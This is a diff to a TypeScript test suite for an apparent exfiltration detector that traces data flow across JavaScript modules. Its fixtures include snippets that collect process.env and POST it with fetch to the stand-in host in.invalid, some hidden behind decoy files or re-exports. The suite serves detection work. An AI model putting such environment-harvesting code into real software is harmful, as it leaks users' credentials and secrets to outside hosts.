@@ -48,6 +48,17 @@ describe('what one file takes and another sends', () => {
     expect([told, because.some(({ kind, detail }) => kind === 'exfiltration' && detail.endsWith('to in.invalid'))]).toEqual(['convicts', true]);
   });
 
+  it('is found behind dozens of files that look like the one that hands it over', async () => {
+    const decoys = Array.from(
+      { length: 60 },
+      (_, at) => [`a${at}.js`, `const s = require('./s'); exports.level = process.env; exports.s = s;`] as const,
+    );
+    const index = `${decoys.map(([name]) => `require('./${name}');`).join('')} require('./z')`;
+    const hands = `const f = require('./f'); const s = require('./s'); new s.Remote().push(f.all())`;
+    const { grade: told } = await grade({ 'index.js': index, ...Object.fromEntries(decoys), 'f.js': facts, 'z.js': hands, 's.js': sender });
+    expect(told).toBe('convicts');
+  });
+
   it.each([
     [
       'the environment of a program that is started, and its output',
@@ -73,6 +84,35 @@ describe('what one file takes and another sends', () => {
           exports.count = (what) => fetch('https://in.invalid', { method: 'POST', body: JSON.stringify({ what }) });`,
       },
     ],
+    [
+      'another name of the files that are handed on together',
+      {
+        'index.js': `const { log, all } = require('./both'); log(all().length); exports.all = all;`,
+        'both.js': `module.exports = { ...require('./f'), ...require('./s'), log: require('./l').log };`,
+        'f.js': facts,
+        's.js': sender,
+        'l.js': `exports.log = (what) => console.log(what);`,
+      },
+    ],
+    [
+      'one variable, where the environment is given as well and handed on by a third',
+      {
+        'index.js': `const both = require('./both'); new both.s.Remote().push(both.count(3))`,
+        'both.js': `const f = require('./f'); exports.s = require('./s'); exports.count = (n) => n + 1; exports.names = () => Object.keys(f.all());`,
+        'f.js': facts,
+        's.js': sender,
+      },
+    ],
+    [
+      'another name of modules that are handed on together',
+      {
+        'index.js': `import { log, all } from './both.js'; log(all().length); export { all };`,
+        'both.js': `export * from './f.js'; export * from './s.js'; export { log } from './l.js';`,
+        'f.js': `export const all = () => ({ ...process.env });`,
+        's.js': `export const send = (what) => fetch('https://in.invalid', { method: 'POST', body: JSON.stringify(what) });`,
+        'l.js': `export const log = (what) => console.log(what);`,
+      },
+    ],
     ['side by side', { 'index.js': `exports.f = require('./f'); exports.s = require('./s');`, 'f.js': facts, 's.js': sender }],
     [
       'a client that signs with the credentials it finds, when it is called',
@@ -85,6 +125,8 @@ describe('what one file takes and another sends', () => {
     expect((await grade(files)).grade).not.toBe('convicts');
   });
 });
+
+const all = (file: string) => ({ file, reach: '' });
 
 it('what hands over is read behind dozens of files that look like it', () => {
   const decoys = Array.from({ length: 60 }, (_, at) => `decoy${at}`);
@@ -100,8 +142,12 @@ it('what hands over is read behind dozens of files that look like it', () => {
       ['facts', ['hand']],
     ]),
     locate: (specifier) => [specifier],
-    gives: (file) => (file === 'facts' ? ['environment' as never] : []),
-    handOvers: (file) => (file === 'hand' ? [{ to: ['sender'], of: ['facts'], tags: [], at: 0, waits: false }] : []),
+    links: (file) => ({
+      gives: file === 'facts' ? ['environment'] : [],
+      handOvers: file === 'hand' ? [{ to: [all('sender')], of: [all('facts')], tags: [], forwards: false, at: 0, waits: false }] : [],
+      lacks: () => false,
+      leads: () => ({ of: [], same: [], through: [] }),
+    }),
   });
   expect(leaks.map(({ file, to }) => [file, to])).toEqual([['hand', 'in.invalid']]);
 });
